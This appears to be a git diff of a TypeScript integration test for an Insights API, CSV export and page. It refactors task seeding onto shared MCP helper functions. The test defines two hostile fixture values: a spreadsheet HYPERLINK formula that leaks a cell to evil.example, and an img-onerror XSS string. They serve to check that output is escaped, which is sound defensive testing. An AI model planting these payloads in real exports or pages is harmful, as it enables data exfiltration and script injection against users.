@@ -2,8 +2,9 @@ import { env } from "cloudflare:workers";
 import { type InsightFigure, type InsightGroup, type Insights, insightsSchema } from "@waymark/protocol/views/insights";
 import { beforeAll, describe, expect, it } from "vitest";
 import { CSV_COLUMNS } from "../../src/pages/insights-csv";
-import { connect, ok } from "../support/mcp-client";
-import { accountIndexed, ON_PAGE, ORIGIN, signIn, TOKENS, workerFetch, workerTarget } from "../support/worker";
+import { toolCaller } from "../pages/fixture";
+import { recordAgentTasks } from "../support/insight-tasks";
+import { accountIndexed, ON_PAGE, ORIGIN, signIn, TOKENS, workerFetch } from "../support/worker";
 
 /**
  * The Insights API, CSV and page through the Worker, for tasks recorded by a real MCP client
@@ -15,39 +16,6 @@ import { accountIndexed, ON_PAGE, ORIGIN, signIn, TOKENS, workerFetch, workerTar
 const HOSTILE_MODEL = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
 const HOSTILE_AGENT = "<img src=x onerror=alert(1)>";
 let readToken = "";
-
-/** A completion as a client that sends the helper's wire format itself sends it. */
-function completion(task_id: string, i: number, tool: string, passing: boolean, outside: boolean) {
-  const path = outside ? `docs/note-${i}.md` : `src/file-${i}.ts`;
-  return {
-    task_id,
-    status: "success",
-    outcome: { summary: `Task ${i}` },
-    metadata: { tests_status: "passed" },
-    metrics: {
-      input_tokens: 1000 + i,
-      output_tokens: 100,
-      model: tool === HOSTILE_AGENT ? HOSTILE_MODEL : "claude-sonnet-4-5",
-      cost_usd: 0.1 * (i + 1),
-    },
-    changes: {
-      type: "checksum",
-      transitions: [{ path, before: null, after: { mode: "100644", blob: String(i).padStart(40, "a") } }],
-      source: { kind: "helper", version: "0.1.0" },
-      agent_edits: { paths: [path] },
-      commands: {
-        runs: passing ? [{ command: "npm test", at: Date.now() - 1000, exit_code: 0, duration_ms: 800, kinds: ["test"] }] : [],
-        last_edit_at: Date.now() - 2000,
-      },
-      review: {
-        lines: [{ path, added: 10, removed: 0, agent: passing ? 9 : 5, others: passing ? 1 : 5, not_observed: 0 }],
-        commits: [],
-        branch: "main",
-        line_attribution: { tool: { name: tool }, files: [] },
-      },
-    },
-  };
-}
 
 async function api(path: string, token = readToken): Promise<Response> {
   return workerFetch(`${ORIGIN}${path}`, { headers: { Authorization: `Bearer ${token}` } });
@@ -62,31 +30,17 @@ beforeAll(async () => {
     body: JSON.stringify({ name: "insights reader", scopes: ["read"] }),
   });
   readToken = ((await made.json()) as { token: string }).token;
-  const client = await connect(workerTarget());
-  const { workflow_id } = await ok<{ workflow_id: string }>(client, "start_workflow", { name: "Insights", force_new: true });
-  const tasks: string[] = [];
-  for (const [tool, passing] of [
-    ["claude-code", true],
-    [HOSTILE_AGENT, false],
-  ] as const) {
-    for (let i = 0; i < 5; i++) {
-      const { task_id } = await ok<{ task_id: string }>(client, "start_task", {
-        workflow_id,
-        name: `${tool} ${i}`,
-        goal: "g",
-        areas: ["src/**"],
-      });
-      await ok(client, "complete_task", completion(task_id, i, tool, passing, !passing && i < 2));
-      tasks.push(task_id);
-    }
-  }
+  const callTool = toolCaller(workerFetch, `${ORIGIN}/mcp`, TOKENS.acme);
+  const { workflowId: workflow_id, tasks } = await recordAgentTasks(callTool, "Insights", [
+    { agent: "claude-code", model: "claude-sonnet-4-5", tasks: 5, passing: true },
+    { agent: HOSTILE_AGENT, model: HOSTILE_MODEL, tasks: 5, passing: false, outside: 2 },
+  ]);
   // A person approves two of the first agent's tasks on the page.
   const workflow = env.WORKFLOW.get(env.WORKFLOW.idFromName(workflow_id));
-  for (const task of tasks.slice(0, 2)) {
+  for (const task of tasks[0]?.slice(0, 2) ?? []) {
     const added = await workflow.addFeedback("acme", { target: "task", target_id: task, verdict: "approved", body: "Good.", ...ON_PAGE });
     expect(added.ok).toBe(true);
   }
-  await client.close();
   await accountIndexed(workflow_id);
 });
 
